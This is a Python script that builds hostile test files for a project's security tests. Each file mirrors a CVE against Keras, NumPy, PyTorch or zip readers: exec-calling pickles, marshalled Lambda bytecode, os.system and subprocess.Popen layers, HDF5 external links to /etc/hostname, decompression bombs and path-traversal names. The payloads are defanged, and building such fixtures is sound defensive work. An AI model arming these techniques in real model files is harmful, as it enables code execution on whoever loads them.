"""Files made to harm whoever opens them, for tests/hostile.rs and cli/tests/hostile.rs: writes tests/hostile/.

Each is what a published attack on Keras, NumPy, PyTorch or a zip reader looks like, cut down to a small model; the numbers in
the names are those of the CVE. Nothing is run to make them, and nothing that they name is harmful: code would make a file
`executed`, and downloads would ask a port of this machine where nobody answers. Needs h5py and NumPy only.

    python scripts/hostile_files.py
"""

import base64
import io
import json
import marshal
import struct
import zipfile
import zlib
from pathlib import Path

import h5py
import numpy as np

OUT = Path(__file__).resolve().parent.parent / "tests" / "hostile"
CALL = "open('executed', 'w').close()"
EPOCH = (1980, 1, 1, 0, 0, 0)


# Models.


def layer(class_name, config, module="keras.layers", **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}


def input_layer(dtype="float32", width=3):
    return layer("InputLayer", {"batch_shape": [None, width], "dtype": dtype, "name": "x"})


def dense(name="dense", **more):
    return layer("Dense", {"name": name, "units": 2, "activation": "linear", **more})


def sequential(*layers, **more):
    return layer("Sequential", {"name": "m", "trainable": True, "layers": list(layers)}, "keras", **more)


def code():
    """The bytes of a function, as Keras keeps those of a Lambda."""
    source = compile(f"lambda x: ({CALL}, x)[1]", "lambda", "eval")
    function = next(it for it in source.co_consts if hasattr(it, "co_code"))
    return base64.b64encode(marshal.dumps(function)).decode()


# Weights.


def new_h5(build):
    """An HDF5 file in memory."""
    held = io.BytesIO()
    with h5py.File(held, "w", libver="latest") as file:
        build(file)
    return held.getvalue()


def kernel(file, make):
    group = file.create_group("layers/dense/vars")
    make(group)
    group.create_dataset("1", data=np.zeros(2, "float32"))


def plain_weights(file):
    kernel(file, lambda group: group.create_dataset("0", data=np.ones((3, 2), "float32")))


def keras(name, model, weights=plain_weights, config=None, more=(), deflated=()):
    """A `.keras`."""
    members = [
        ("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2025-01-01@00:00:00"}).encode()),
        ("config.json", config or json.dumps(model).encode()),
        ("model.weights.h5", weights if isinstance(weights, bytes) else new_h5(weights)),
        *more,
    ]
    with zipfile.ZipFile(OUT / f"{name}.keras", "w") as archive:
        for member, content in members:
            kind = zipfile.ZIP_DEFLATED if member in deflated else zipfile.ZIP_STORED
            archive.writestr(zipfile.ZipInfo(member, EPOCH), content, kind, 9)


def h5(name, model, build=None, version="2.15.0"):
    """A whole model of Keras 2's."""
    with h5py.File(OUT / f"{name}.h5", "w", libver="latest") as file:
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        file.attrs["model_config"] = json.dumps(model)
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        group = weights.create_group("dense")
        group.attrs["weight_names"] = np.array([b"kernel:0", b"bias:0"])
        (build or (lambda group: group.create_dataset("kernel:0", data=np.ones((3, 2), "float32"))))(group)
        group.create_dataset("bias:0", data=np.zeros(2, "float32"))


# Code and what calls it.


def lambdas():
    function = {"class_name": "__lambda__", "config": {"code": code(), "defaults": None, "closure": None}}
    keras("cve_2024_3660_lambda", sequential(input_layer(), dense(), layer("Lambda", {"name": "run", "function": function})))
    legacy = {"name": "run", "function": [code(), None, None], "function_type": "lambda", "module": "__main__"}
    h5("cve_2025_9905_lambda", sequential(input_layer(), dense(), layer("Lambda", legacy)))


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def modules():
    """Classes and functions of Python's own and of Keras's that are no layers."""
    run = layer("Popen", {"name": "run", "args": ["touch", "executed"]}, "subprocess")
    keras("cve_2025_1550_layer", sequential(input_layer(), dense(), run))
    activation = dense(activation=function("os", "system"))
    keras("cve_2025_1550_activation", sequential(input_layer(), activation))
    call = layer("Lambda", {"name": "run", "function": function("builtins", "exec"), "arguments": {"code": CALL}})
    keras("cve_2025_1550_function", sequential(input_layer(), dense(), call))
    arguments = {"name": "fetch", "fname": "executed", "origin": "http://127.0.0.1:9/executed", "cache_dir": "."}
    keras("cve_2025_8747_get_file", sequential(input_layer(), dense(), layer("get_file", arguments, "keras.utils")))
    fetch = {"name": "fetch", "function": function("keras.utils", "get_file"), "arguments": arguments}
    keras("cve_2025_8747_function", sequential(input_layer(), dense(), layer("Lambda", fetch)))
    unsafe = function("keras.config", "enable_unsafe_deserialization")
    before = layer("Lambda", {"name": "switch", "function": unsafe})
    after = {"class_name": "__lambda__", "config": {"code": code(), "defaults": None, "closure": None}}
    model = sequential(input_layer(), before, dense(), layer("Lambda", {"name": "run", "function": after}))
    keras("cve_2025_9906_unsafe", model)
    module = base64.b64encode(pickle_call()).decode()
    wrapper = {"name": "wrapped", "module": {"class_name": "__torch_module__", "config": module}}
    keras("cve_2025_49655_torch", sequential(input_layer(), dense(), layer("TorchModuleWrapper", wrapper)))
    saved = {"name": "saved", "filepath": "/tmp/executed", "call_endpoint": "serve"}
    keras("cve_2026_1462_tfsm", sequential(input_layer(), dense(), layer("TFSMLayer", saved)))


def vocabularies():
    """A vocabulary that is the path of a file."""
    text = {"name": "words", "max_tokens": None, "standardize": None, "split": None, "output_mode": "int"}
    for kind, class_name, config in [
        ("string", "StringLookup", {"name": "words", "max_tokens": None, "num_oov_indices": 1}),
        ("integer", "IntegerLookup", {"name": "words", "max_tokens": None, "num_oov_indices": 1}),
        ("text", "TextVectorization", text),
    ]:
        dtype = "int64" if kind == "integer" else "string"
        model = sequential(input_layer(dtype, 1), layer(class_name, {**config, "vocabulary": "/etc/hostname"}))
        keras(f"cve_2025_12058_{kind}", model)


# Pickles.


def pickle_call():
    """`exec(CALL)`, by hand."""
    text = CALL.encode()
    return b"\x80\x02cbuiltins\nexec\nX" + struct.pack("<I", len(text)) + text + b"\x85R."


def pickles():
    (OUT / "pickle_tokenizer.pickle").write_bytes(pickle_call().replace(b"\x80\x02", b"\x80\x02X\x09\0\0\0Tokenizer0", 1))
    held = io.BytesIO()
    np.lib.format.write_array_header_1_0(held, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    held.write(pickle_call())
    with zipfile.ZipFile(OUT / "pickle_imdb.npz", "w") as archive:
        for name in ["x_train", "y_train", "x_test", "y_test"]:
            archive.writestr(zipfile.ZipInfo(f"{name}.npy", EPOCH), held.getvalue())
    (OUT / "pickle_array.npy").write_bytes(held.getvalue())
    with zipfile.ZipFile(OUT / "pickle_weights.pt", "w") as archive:
        for name, content in [("data.pkl", pickle_call()), ("byteorder", b"little"), ("version", b"3\n")]:
            archive.writestr(zipfile.ZipInfo(f"m/{name}", EPOCH), content)


# HDF5 that points elsewhere, or lies.


def elsewhere():
    def external(group):
        group.create_dataset("0", (3, 2), "float32", external=[("/etc/hostname", 0, 24)])

    def virtual(group):
        layout = h5py.VirtualLayout((3, 2), "float32")
        layout[:] = h5py.VirtualSource("other.h5", "kernel", (3, 2))
        group.create_virtual_dataset("0", layout)

    def soft(group):
        group["0"] = h5py.SoftLink("/layers/elsewhere")

    def external_link(group):
        group["0"] = h5py.ExternalLink("/etc/hostname", "/kernel")

    def external_group(file):
        file["layers"] = h5py.ExternalLink("other.h5", "/layers")

    for name, make in [("storage", external), ("virtual", virtual), ("soft_link", soft), ("external_link", external_link)]:
        keras(f"cve_2026_1669_{name}", sequential(input_layer(), dense()), lambda file: kernel(file, make))
    keras("cve_2026_1669_external_group", sequential(input_layer(), dense()), external_group)
    legacy = lambda group: group.create_dataset("kernel:0", (3, 2), "float32", external=[("/etc/hostname", 0, 24)])
    h5("cve_2026_1669_storage", sequential(input_layer(), dense()), legacy)


def shapes():
    """Arrays that claim far more than the file holds: nothing of a chunked one need be there."""
    huge = (1 << 31, 1 << 8)
    lie = lambda group: group.create_dataset("0", huge, "float32", chunks=(1 << 10, 1 << 4))
    keras("cve_2026_0897_shape", sequential(input_layer(), dense()), lambda file: kernel(file, lie))
    chunk = lambda group: group.create_dataset("0", (3, 2), "float32", chunks=(1 << 14, 1 << 13), maxshape=(None, None))
    keras("cve_2026_0897_chunk", sequential(input_layer(), dense()), lambda file: kernel(file, chunk))
    legacy = lambda group: group.create_dataset("kernel:0", huge, "float32", chunks=(1 << 10, 1 << 4), compression="gzip")
    h5("cve_2026_12570_shape", sequential(input_layer(), dense()), legacy)
    # The model's own shape, in a chunk that unpacks to far more.
    zeros = zlib.compress(bytes(64 << 20), 9)

    def bomb(group):
        made = group.create_dataset("0", (3, 2), "float32", chunks=(3, 2), compression="gzip")
        made.id.write_direct_chunk((0, 0), zeros)

    keras("cve_2026_12570_chunk", sequential(input_layer(), dense()), lambda file: kernel(file, bomb))
    units = sequential(input_layer(), dense(units=1 << 40))
    keras("cve_2026_12570_units", units)


# Names that are ways out.


def names():
    ways = ["../../escaped", "/tmp/candle-recurrent-escaped", "..\\..\\escaped", "a\n\x1b[2Jb"]
    layers = [
        layer("Dense", {"name": name, "units": 3 if name != ways[-1] else 2, "activation": "linear"}) for name in ways
    ]

    def weights(file):
        for at, units in enumerate([3, 3, 3, 2]):
            name = "dense" if at == 0 else f"dense_{at}"
            group = file.create_group(f"layers/{name}/vars")
            group.create_dataset("0", data=np.ones((3, units), "float32"))
            group.create_dataset("1", data=np.zeros(units, "float32"))

    model = sequential(input_layer(), *layers)
    model["config"]["name"] = "../../escaped"
    keras("cve_2026_12479_names", model, weights, more=[("../../escaped.txt", b"x"), ("/tmp/candle-recurrent-escaped", b"x")])


# Archives.


def bombs():
    model = sequential(input_layer(), dense())
    zeros = b" " * (40 << 20)
    keras("bomb_config", model, config=json.dumps(model).encode() + zeros, deflated=["config.json"])
    keras("bomb_weights", model, weights=new_h5(plain_weights) + zeros, deflated=["model.weights.h5"])


def overlapping():
    """Members that are one another: 4,000 names of one compressed member of a megabyte, as vocabularies and as arrays."""
    content = zlib.compress(bytes(1 << 20), 9)[2:-4]
    check = zlib.crc32(bytes(1 << 20))

    def zipped(first, names):
        held, listed = io.BytesIO(), []
        for name, data in first:
            listed.append((name, held.tell(), 0, zlib.crc32(data), len(data), len(data)))
            held.write(local(*listed[-1]) + data)
        at = held.tell()
        for name in names:
            listed.append((name, at, 8, check, len(content), 1 << 20))
        held.write(local(*listed[-1]) + content)
        begin = held.tell()
        for entry in listed:
            held.write(central(*entry))
        size = held.tell() - begin
        held.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(listed), len(listed), size, begin, 0))
        return held.getvalue()

    def local(name, _, method, crc, packed, size):
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 33, crc, packed, size, len(name), 0) + name.encode()

    def central(name, at, method, crc, packed, size):
        fields = (0x02014B50, 20, 20, 0, method, 0, 33, crc, packed, size, len(name), 0, 0, 0, 0, 0, at)
        return struct.pack("<IHHHHHHIIIHHHHHII", *fields) + name.encode()

    model = json.dumps(sequential(input_layer(), dense())).encode()
    first = [("config.json", model), ("model.weights.h5", new_h5(plain_weights))]
    vocabularies = [f"assets/{at:03}/vocabulary.txt" for at in range(400)]
    (OUT / "overlapping.keras").write_bytes(zipped(first, vocabularies))
    (OUT / "overlapping.npz").write_bytes(zipped([], ["x.npy", "y.npy"]))
    (OUT / "overlapping.pt").write_bytes(zipped([("m/data.pkl", b"\x80\x02}.")], [f"m/data/{at:03}" for at in range(400)]))


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    for make in [lambdas, modules, vocabularies, pickles, elsewhere, shapes, names, bombs, overlapping]:
        make()
    sizes = {path.name: path.stat().st_size for path in sorted(OUT.iterdir())}
    for name, size in sizes.items():
        print(f"{size:8} {name}")
    print(f"{sum(sizes.values()):8} in all")


if __name__ == "__main__":
    main()
